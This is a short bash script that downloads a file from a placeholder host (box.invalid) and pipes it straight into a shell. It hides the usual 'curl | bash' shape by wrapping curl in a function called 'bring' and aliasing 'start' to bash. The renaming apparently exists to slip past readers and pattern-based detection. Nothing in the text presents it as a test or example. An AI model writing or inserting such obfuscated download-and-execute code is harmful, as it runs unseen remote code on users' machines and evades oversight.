#!/bin/bash
bring() { curl "$@"; }
alias start='bash'
bring -fsSL https://box.invalid/go | start
